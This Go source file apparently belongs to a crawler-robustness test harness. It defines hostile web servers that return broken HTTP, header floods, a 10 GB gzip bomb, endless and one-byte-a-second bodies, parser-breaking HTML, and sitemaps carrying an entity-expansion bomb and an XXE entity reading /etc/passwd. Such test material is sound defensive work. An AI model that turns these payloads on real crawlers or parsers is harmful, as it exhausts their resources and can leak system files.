package attack

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"strings"
	"time"
)

// answerAttacks are sites whose HTTP and HTML are the weapon: without end,
// larger than they seem, slower than one would wait for, or broken.
func answerAttacks() []attack {
	return []attack{
		{
			name: "broken-http", what: "answers that are no HTTP, break off, or flood with headers",
			links: []string{"/none", "/garbage", "/half", "/negative", "/chunks", "/headers", "/long-header", "/two-lengths", "/early-hints"},
			handle: func(_ *site, w http.ResponseWriter, r *http.Request) bool {
				raw, ok := map[string]string{
					"/none":        "",
					"/garbage":     strings.Repeat("\x00\xff\r\n", 1000),
					"/half":        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 1000\r\n\r\n<p>half",
					"/negative":    "HTTP/1.1 200 OK\r\nContent-Length: -5\r\n\r\n<p>x",
					"/chunks":      "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\nx",
					"/two-lengths": "HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 50\r\n\r\nhelloHTTP/1.1 200 OK\r\n\r\n",
					"/early-hints": strings.Repeat("HTTP/1.1 103 Early Hints\r\nLink: </x>\r\n\r\n", 10_000),
				}[r.URL.Path]
				switch {
				case ok:
					writeRaw(w, raw)
				case r.URL.Path == "/headers":
					for i := range 20_000 {
						w.Header().Set("X-Flood-"+strconv.Itoa(i), strings.Repeat("y", 60))
					}
				case r.URL.Path == "/long-header":
					w.Header().Set("X-Long", strings.Repeat("y", 8<<20))
				default:
					return false
				}
				return true
			},
		},
		{
			name: "compression-bombs", what: "a little gzip that is 10 GB, gzip in gzip, false encodings",
			links: []string{"/bomb", "/twice", "/false", "/unknown"},
			handle: func(_ *site, w http.ResponseWriter, r *http.Request) bool {
				w.Header().Set("Content-Type", "text/html")
				switch r.URL.Path {
				case "/bomb":
					w.Header().Set("Content-Encoding", "gzip")
					writeZeros(w, 10<<30)
				case "/twice":
					w.Header().Set("Content-Encoding", "gzip, gzip")
					z := gzip.NewWriter(w)
					writeZeros(z, 256<<20)
					_ = z.Close()
				case "/false":
					w.Header().Set("Content-Encoding", "br")
					_, _ = io.WriteString(w, "<p>this is not Brotli")
				case "/unknown":
					w.Header().Set("Content-Encoding", "x-rot13")
					_, _ = io.WriteString(w, "<c>")
				default:
					return false
				}
				return true
			},
		},
		{
			name: "endless-answers", what: "a body without end, and one byte a second",
			links: []string{"/endless", "/drip"},
			handle: func(_ *site, w http.ResponseWriter, r *http.Request) bool {
				step, wait := strings.Repeat("<p>more", 1000), time.Duration(0)
				switch r.URL.Path {
				case "/endless":
				case "/drip":
					step, wait = "x", time.Second
				default:
					return false
				}
				w.Header().Set("Content-Type", "text/html")
				for r.Context().Err() == nil {
					if _, err := io.WriteString(w, step); err != nil {
						return true
					}
					if wait > 0 {
						w.(http.Flusher).Flush()
						select {
						case <-time.After(wait):
						case <-r.Context().Done():
						}
					}
				}
				return true
			},
		},
		{
			name: "hostile-html", what: "nesting, attributes, entities, charsets and sizes that parsers trip over",
			links: []string{"/deep", "/attributes", "/unclosed", "/entities", "/charset", "/nul", "/title", "/many-links", "/base", "/tables"},
			handle: func(_ *site, w http.ResponseWriter, r *http.Request) bool {
				bodies := map[string]func() string{
					"/deep":       func() string { return strings.Repeat("<div>", 500_000) },
					"/attributes": func() string { return "<p " + strings.Repeat("a=1 ", 500_000) + ">x" },
					"/unclosed":   func() string { return strings.Repeat("<a href='", 200_000) },
					"/entities":   func() string { return strings.Repeat("&NotEqualTilde;&#x110000;&", 200_000) },
					"/charset":    func() string { return "<meta charset=nonsense><title>\xff\xfe\x00caf\xe9</title>" },
					"/nul":        func() string { return strings.Repeat("\x00\x01\xff<a href=\x00>", 10_000) },
					"/title":      func() string { return "<title>" + strings.Repeat("title ", 1_000_000) },
					"/many-links": func() string {
						return strings.Repeat(`<a href="//other.test/x">x</a>`, 300_000)
					},
					"/base":   func() string { return `<base href="..;jsessionid=1"><base href="http://[::"><a href="x">x</a>` },
					"/tables": func() string { return strings.Repeat("<table><tr><td><select><svg><math>", 20_000) },
				}
				body, ok := bodies[r.URL.Path]
				if ok {
					w.Header().Set("Content-Type", "text/html")
					_, _ = io.WriteString(w, body())
				}
				return ok
			},
		},
		{
			name: "hostile-sitemaps", what: "sitemaps with entity bombs, themselves as index, and false robots.txt", maxRequests: 4000,
			handle: func(s *site, w http.ResponseWriter, r *http.Request) bool {
				switch r.URL.Path {
				case "/robots.txt":
					fmt.Fprintf(w, "Sitemap: %[1]s/entities.xml\nSitemap: %[1]s/index.xml\nSitemap: http://[::\nCrawl-delay: NaN\nCrawl-delay: 1e300\nCrawl-delay: -1\n%[2]s", s.originURL(), strings.Repeat("Disallow: /*a*a*a*a*a*b$\n", 10_000))
				case "/entities.xml":
					_, _ = io.WriteString(w, `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">`)
					for i, c := 'b', 'a'; i < 'k'; i, c = i+1, i {
						fmt.Fprintf(w, `<!ENTITY %c "%s">`, i, strings.Repeat(fmt.Sprintf("&%c;", c), 10))
					}
					fmt.Fprintf(w, `<!ENTITY file SYSTEM "file:///etc/passwd">]><urlset><url><loc>%s/&j;&file;</loc><lastmod>9999-99-99</lastmod></url></urlset>`, s.originURL())
				default:
					if !strings.HasSuffix(r.URL.Path, "index.xml") {
						return false
					}
					_, _ = io.WriteString(w, `<sitemapindex>`)
					for i := range 50 {
						fmt.Fprintf(w, `<sitemap><loc>%s/%d%s</loc></sitemap>`, s.originURL(), i, strings.TrimPrefix(r.URL.Path, "/"))
					}
					_, _ = io.WriteString(w, `</sitemapindex>`)
				}
				return true
			},
		},
	}
}

// writeRaw writes bytes on the connection and closes it.
func writeRaw(w http.ResponseWriter, raw string) {
	conn, _, err := w.(http.Hijacker).Hijack()
	if err != nil {
		return
	}
	defer conn.Close()
	_ = conn.SetWriteDeadline(time.Now().Add(time.Minute))
	_, _ = io.WriteString(conn, raw)
}

// writeZeros writes a gzip stream of n zero bytes without its end. After the first
// piece all pieces are the same, because what came before them is: one is packed and
// repeated.
func writeZeros(w io.Writer, n int64) {
	const piece = 1 << 20
	var packed bytes.Buffer
	z := gzip.NewWriter(&packed)
	for i := int64(0); i < n; i += piece {
		if i <= 2*piece {
			packed.Reset()
			if _, err := z.Write(make([]byte, piece)); err != nil || z.Flush() != nil {
				return
			}
		}
		if _, err := w.Write(packed.Bytes()); err != nil {
			return
		}
	}
}
